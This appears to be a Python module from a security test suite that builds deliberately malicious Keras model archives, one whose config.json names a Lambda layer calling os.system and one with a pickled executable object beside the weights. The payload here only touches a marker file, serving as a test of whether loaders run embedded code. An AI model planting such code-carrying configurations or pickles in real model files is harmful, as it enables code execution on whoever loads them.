"""Keras's archives with code beside the weights."""

from __future__ import annotations

import pickle
import zipfile
from pathlib import Path

from attacks.build import MARKER, Executes, attack

WEIGHTS = Path(__file__).parents[1] / "checkpoints" / "files" / "model.weights.h5"


def archive(directory: Path, name: str, content: str | bytes) -> Path:
    path = directory / "a.keras"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        file.write(WEIGHTS, "model.weights.h5")
        file.writestr(name, content)
    return path


@attack("opens")
def keras_configuration_that_names_code(directory: Path) -> Path:
    command = f"touch {directory / MARKER}"
    config = (
        '{"class_name": "Lambda", "module": "os", "config": {"function": '
        f'{{"class_name": "__lambda__", "config": "os.system({command!r})"}}}}}}'
    )
    return archive(directory, "config.json", config)


@attack("opens")
def keras_pickle_beside_the_weights(directory: Path) -> Path:
    return archive(directory, "assets/layer.pkl", pickle.dumps(Executes(directory)))
